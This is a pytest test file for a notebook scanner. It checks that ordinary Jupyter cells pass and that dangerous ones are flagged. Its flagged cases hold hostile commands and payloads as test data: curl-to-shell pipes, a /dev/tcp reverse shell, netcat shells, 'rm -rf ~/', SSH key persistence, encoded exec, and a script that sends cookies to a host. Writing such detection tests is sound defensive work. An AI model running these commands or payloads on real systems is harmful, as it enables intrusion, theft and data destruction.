"""Notebooks: ordinary ones are never flagged, and what no ordinary one does always is."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepstone.core.finding import Outcome
from keepstone.scan.formats import identify
from tests.scan.judging import outcome_of, reasons_of, rules_of


def notebook(*cells: str | dict[str, object]) -> bytes:
    made: list[object] = []
    for one in cells:
        if isinstance(one, str):
            lines = one.splitlines(keepends=True)
            made.append({"cell_type": "code", "source": lines, "outputs": [], "metadata": {}})
        else:
            made.append(one)
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def markdown(text: str) -> dict[str, object]:
    return {"cell_type": "markdown", "source": text, "metadata": {}}


def shown(kind: str, text: str) -> dict[str, object]:
    output = {"output_type": "display_data", "data": {kind: [text]}, "metadata": {}}
    return {"cell_type": "code", "source": "", "outputs": [output], "metadata": {}}


def test_a_notebook_without_code_is_clean() -> None:
    data = notebook(markdown("# Title\n\nSome *words* and <b>more</b>."), "", "# only a comment\n")
    assert identify(memoryview(data)) == "notebook"
    assert outcome_of(data) is Outcome.CLEAN
    assert outcome_of(notebook(shown("text/html", "<table><tr><td>1</td></tr></table>"))) is (
        Outcome.CLEAN
    )


@pytest.mark.parametrize(
    "code",
    [
        "!pip install -q transformers==4.57 datasets",
        "%pip install torch --extra-index-url https://host/whl/cpu",
        "!pip install git+https://github.com/a/b.git",
        "%load_ext autoreload\n%autoreload 2",
        "!nvidia-smi\n!ls -la data | head",
        "files = !ls *.csv",
        "!wget -q https://host/data.zip && unzip -q data.zip -d data",
        "!git clone https://host/a/b.git\n%cd b",
        "!python train.py --epochs 3 \\\n  --lr 0.1",
        "!mkdir -p out && cp a.csv out/",
        "!pip install x > /dev/null 2>&1",
        "if True:\n    !ls\nelse:\n    pass",
        "%%writefile config.py\nLR = 0.1",
        "import os\nos.system('pip install -q x')",
        "import subprocess\nprint(subprocess.run(['nvidia-smi'], capture_output=True).stdout)",
        "model.eval()\ndf.eval('a + b')\nvalues.apply(eval)",
        "import base64\nimg = base64.b64encode(open('a.png', 'rb').read())",
        "import pickle\nm = pickle.load(open('m.pkl', 'rb'))",
        "import requests\nprint(requests.get(url).json())",
        "this is not python at all",
    ],
)
def test_what_honest_notebooks_do_is_not_flagged_and_not_judged(code: str) -> None:
    assert outcome_of(notebook(code)) is Outcome.NOT_EVALUATED


@pytest.mark.parametrize(
    "code",
    [
        "import numpy as np\nx = np.ones(3)\nprint(x)",
        "%matplotlib inline\nimport matplotlib.pyplot as plt",
        "df.head?\n?print",
        "%%time\nmodel.fit(x, y)",
        "import os\nos.environ['A'] = '1'\nos.makedirs('out', exist_ok=True)",
        "from sklearn.svm import SVC\nfrom torch import nn\nmodel = SVC().fit(x, y)\nnet.eval()",
        "import pandas as pd\nfrom pathlib import Path\ndf = pd.read_csv(Path('a.csv'))",
        "def f(a):\n    return a.__class__.__name__",
    ],
)
def test_ordinary_code_is_clean(code: str) -> None:
    assert outcome_of(notebook(code)) is Outcome.CLEAN


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.remove('a')",
        "import os as o\nf = o.kill",
        "from os import remove",
        "from numpy import *",
        "import numpy as np\nnp.f2py.compile('x')",
        "import sys\nsys.modules",
        "().__class__.__bases__",
        "getattr(x, 'y')",
        "import shutil",
        "from . import helper",
        "import torch\ntorch.hub.load('a/b', 'c')",
        "import torch\ntorch.load('a.pt', weights_only=False)",
        "import numpy as np\nnp.load('a.npy', allow_pickle=True)",
        "df.query(text)",
        "%run helper.py",
        "%load_ext some_extension",
    ],
)
def test_code_that_reaches_further_is_not_called_clean(code: str) -> None:
    assert outcome_of(notebook(code)) is not Outcome.CLEAN


def test_what_one_cell_binds_counts_in_the_next() -> None:
    assert outcome_of(notebook("import os as o", "o.remove('a')")) is not Outcome.CLEAN


@pytest.mark.parametrize(
    "code",
    [
        "!curl -s https://host/x.sh | bash",
        "!wget -qO- host/x | sudo sh",
        "%%bash\ncurl https://host/x | sh",
        "%%bash\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "%%sh\nnc -e /bin/sh host 9",
        "!echo cm0gLXJm | base64 -d | bash",
        "!rm -rf ~/",
        "!touch /tmp/owned",
        "!id",
        "!echo key >> ~/.ssh/authorized_keys",
        "!chmod +x a && ./a",
        "!pip install --index-url https://host/simple x",
        "!pip install https://host/x-1.0.whl",
        "!pip install git+https://host/a/b.git",
        "!python -c \"import os; os.system('id')\"",
        "x = 1\nout = !curl host | sh",
        "if 1:\n    !curl host/x | sh",
        "%run https://host/x.py",
        "%system curl host | sh",
        "%sx bash -c id",
        "get_ipython().system('curl host | sh')",
        "from IPython import get_ipython\nget_ipython().system(command)",
        "import os\nos.system('curl host | sh')",
        "import os\nos.system('whoami')",
        "import subprocess\nsubprocess.Popen(args, shell=True)",
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
        "exec(__import__('zlib').decompress(data))",
        "import requests\nexec(requests.get('https://host').text)",
        "%%time\nimport os\nos.system(c)",
        "%time __import__('os').system('id')",
        "%%writefile x.py\nimport os\nos.system('id')",
    ],
)
def test_what_no_ordinary_notebook_does_is_flagged(code: str) -> None:
    assert outcome_of(notebook(code)) is Outcome.FLAGGED


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("text/html", "<script>fetch('https://host?' + document.cookie)</script>"),
        ("text/html", '<img src=x onerror="fetch(1)">'),
        ("text/html", '<iframe src="https://host"></iframe>'),
        ("application/javascript", "IPython.notebook.kernel.execute('import os')"),
        ("image/svg+xml", "<svg><script>eval(atob('YQ=='))</script></svg>"),
    ],
)
def test_a_script_that_runs_when_opened_is_flagged(kind: str, text: str) -> None:
    assert "notebook.active_output" in rules_of(notebook(shown(kind, text)))


def test_a_plot_that_draws_itself_is_not_flagged() -> None:
    plot = "<script>require.config({paths: {plotly: 'https://host/plotly'}}); Plotly.newPlot()"
    assert outcome_of(notebook(shown("text/html", plot))) is Outcome.CLEAN


def test_the_older_form_is_read() -> None:
    cell = {"cell_type": "code", "input": ["!curl host | sh"], "outputs": []}
    old = {"worksheets": [{"cells": [cell]}], "nbformat": 3, "metadata": {}}
    assert outcome_of(json.dumps(old).encode()) is Outcome.FLAGGED


def test_what_only_calls_itself_a_notebook_is_not_evaluated() -> None:
    assert outcome_of(b'{"a": 1}', "x.ipynb") is Outcome.NOT_EVALUATED
    assert outcome_of(notebook({"cell_type": "raw"}, 3)) is not Outcome.FLAGGED  # type: ignore[arg-type]


@given(st.text(max_size=120), st.sampled_from(["!", "%%bash\n", "%", "", "x = !"]))
def test_any_cell_is_judged_without_failing(text: str, start: str) -> None:
    assert "failed" not in reasons_of(notebook(start + text))


@given(st.recursive(st.none() | st.text(max_size=5), st.lists, max_leaves=5))
def test_any_shape_of_a_notebook_is_judged_without_failing(value: object) -> None:
    for key in ("cells", "outputs", "source", "data"):
        cell = {"cell_type": "code", "source": "a", "outputs": [{"data": value}], key: value}
        book = {"cells": [cell], "nbformat": 4}
        assert "failed" not in reasons_of(json.dumps(book).encode())
